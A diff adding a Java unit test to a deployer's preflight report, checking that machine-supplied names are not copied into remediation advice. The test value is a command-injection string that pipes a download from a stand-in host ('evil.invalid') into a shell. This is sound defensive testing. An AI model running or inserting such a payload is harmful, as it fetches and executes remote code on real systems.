@@ -19,6 +19,7 @@ import com.torrust.deployer.domain.preflight.MachineFacts;
 import com.torrust.deployer.domain.preflight.MachineFinding;
 import com.torrust.deployer.domain.preflight.MachineFinding.Severity;
 import com.torrust.deployer.domain.preflight.MachineReport;
+import com.torrust.deployer.domain.preflight.NetworkFacts;
 import com.torrust.deployer.domain.preflight.PackageFacts;
 import com.torrust.deployer.domain.preflight.StackFolderFacts;
 import com.torrust.deployer.domain.preflight.StackFolderFacts.Kind;
@@ -355,5 +356,33 @@ class MachineReportTest {
         List.of("machine.firewalld", "machine.firewall_persistent", "machine.nftables_flush"),
         codes(report, Severity.WARNING));
     assertTrue(codes(report, Severity.FINE).contains("machine.ufw"));
+  }
+
+  @Test
+  void noNameThatTheMachineGivesBecomesAPartOfAnAdvice() {
+    String bad = "x'; curl http://evil.invalid | sh #";
+    MachineReport report =
+        report(
+            facts ->
+                facts
+                    .withAccount(new AccountFacts(bad, "/bin/sh", Elevation.NONE, bad))
+                    .withNetwork(
+                        new NetworkFacts(
+                            bad, false, false, List.of(), List.of(), Optional.empty()))
+                    .withStackFolder(
+                        new StackFolderFacts(
+                            Kind.RELEASED, bad, List.of(bad), List.of("environment=" + bad))));
+
+    List<String> codes =
+        report.findings().stream().map(finding -> finding.code().value()).toList();
+    assertTrue(
+        codes.containsAll(
+            List.of("ssh.no_sudo", "machine.hostname_unresolved", "machine.folder_foreign")),
+        codes::toString);
+    report
+        .findings()
+        .forEach(
+            finding ->
+                assertFalse(finding.remedy().contains("evil.invalid"), finding::toString));
   }
 }
